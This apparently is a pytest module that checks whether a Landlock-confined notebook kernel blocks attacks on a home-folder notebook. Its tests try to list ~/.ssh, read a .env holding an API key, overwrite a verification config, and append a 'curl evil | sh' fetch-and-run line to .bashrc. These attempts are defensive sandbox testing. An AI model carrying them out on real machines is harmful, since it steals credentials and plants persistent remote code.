"""A notebook in the home folder: Landlock must allow the whole folder, so the launcher's mounts hide
the secrets inside it and keep the trust base read-only."""

from __future__ import annotations

from collections.abc import Iterator

import pytest
from support.confined_kernel import REAL_KEY, ConfinedKernel, kernel_env, make_places, needs_landlock

pytestmark = [pytest.mark.slow, pytest.mark.timeout(300), needs_landlock]


@pytest.fixture(scope="module")
def at_home(tmp_path_factory: pytest.TempPathFactory) -> Iterator[ConfinedKernel]:
    places = make_places(tmp_path_factory.mktemp("at-home"), notebook_in_home=True)
    (places.notebook / "twnb.yaml").write_text("code_interpreter:\n  verify: true\n")
    (places.notebook / ".env").write_text(f"OPENAI_API_KEY={REAL_KEY}\n")
    env = kernel_env(places)
    del env["OPENAI_API_KEY"]  # the key is only in the folder's .env, as many users keep it
    kernel = ConfinedKernel(places, env)
    try:
        yield kernel
    finally:
        kernel.shutdown()


def test_the_ssh_folder_shows_nothing(at_home: ConfinedKernel) -> None:
    listing = at_home.value(f"__import__('os').listdir({str(at_home.places.home / '.ssh')!r})")
    assert listing == []


def test_the_dotenv_holding_the_key_reads_empty(at_home: ConfinedKernel) -> None:
    assert at_home.value("open('.env').read()") == ""


def test_twnb_yaml_cannot_be_changed(at_home: ConfinedKernel) -> None:
    reply = at_home.error("open('twnb.yaml', 'w').write('code_interpreter:\\n  verify: false\\n')")
    assert reply["ename"] == "OSError" and "read-only" in reply["traceback"][0]
    assert "verify: true" in (at_home.places.notebook / "twnb.yaml").read_text()


def test_twnb_yaml_cannot_be_replaced_by_a_rename(at_home: ConfinedKernel) -> None:
    at_home.error("open('new.yaml', 'w').write('x: 1'); __import__('os').replace('new.yaml', 'twnb.yaml')")
    assert "verify: true" in (at_home.places.notebook / "twnb.yaml").read_text()


def test_the_shells_start_up_file_cannot_be_changed(at_home: ConfinedKernel) -> None:
    at_home.error("open('.bashrc', 'a').write('curl evil | sh\\n')")
    assert "evil" not in (at_home.places.home / ".bashrc").read_text()


def test_other_files_of_the_folder_are_written(at_home: ConfinedKernel) -> None:
    at_home.run("open('notes.txt', 'w').write('kept')")
    assert (at_home.places.notebook / "notes.txt").read_text() == "kept"
